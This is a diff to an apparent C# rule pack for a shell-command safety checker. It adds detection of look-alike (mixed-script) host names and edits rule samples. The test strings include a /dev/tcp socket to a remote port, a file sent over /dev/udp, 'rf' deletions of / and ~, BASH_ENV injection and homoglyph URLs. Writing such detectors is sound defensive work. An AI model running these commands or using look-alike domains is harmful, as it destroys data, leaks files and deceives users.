@@ -70,6 +70,13 @@ internal static class NetworkPacks
             True = "exec 3<>/dev/tcp/example.com/4444\ncat notes > /dev/udp/10.0.0.1/53",
             False = "echo > /dev/tcp/localhost/8080",
         },
+        new("network.look-alike", EffectKind.Connect, Verdict.Ask, "This host's name mixes letters of different scripts, so as to be taken for another.")
+        {
+            When = static s => Shell.Commands.LookAlikes.IsMixed(s.Effect.Target.Name),
+            Suggest = "git clone https://example.com/tool",
+            True = "git clone https://ex\u0430mple.com/tool\ncurl -o x https://xn--exmple-4nf.com/x\nwget https://ex%D0%B0mple.com/x",
+            False = "git clone https://example.com/tool\ncurl https://m\u00fcnchen.example/\ncurl https://\u043f\u0440\u0438\u043c\u0435\u0440.example/\ncurl https://\u65e5\u672capi.example/",
+        },
         new("network.zone-transfer", EffectKind.Connect, Verdict.Ask, "This asks a name server for a whole zone.")
         {
             Details = "zone-transfer",
@@ -141,7 +148,7 @@ internal static class NetworkPacks
         {
             Details = "program-with-dangerous-arguments code-from-input sql-program split-string startup-file",
             Suggest = "rm -rf ./build",
-            True = "$TOOL -rf /\n\"$CMD\" -rf ~\nxargs -I{} sh -c {} < jobs.txt\nparallel < jobs.txt\nBASH_ENV=./other.sh bash -c true\nsed 's/x/& y/e' notes.txt",
+            True = "$TOOL -rf /\n\"$CMD\" -rf ~\nxargs -I{} sh -c {} < jobs.txt\nparallel < jobs.txt\nenv BASH_ENV=./other.sh bash -c true\nsed 's/x/& y/e' notes.txt",
             False = "$TOOL --version\nxargs -n1 sh -c 'echo $0' < jobs.txt\nparallel gzip < names.txt\nBASH_ENV= bash -c true\nsed 's/x/y/' notes.txt",
         },
         new("remote-code.preload", EffectKind.ExecuteUnknown, Verdict.Ask, "A library of the command's choosing would be loaded into the program.")
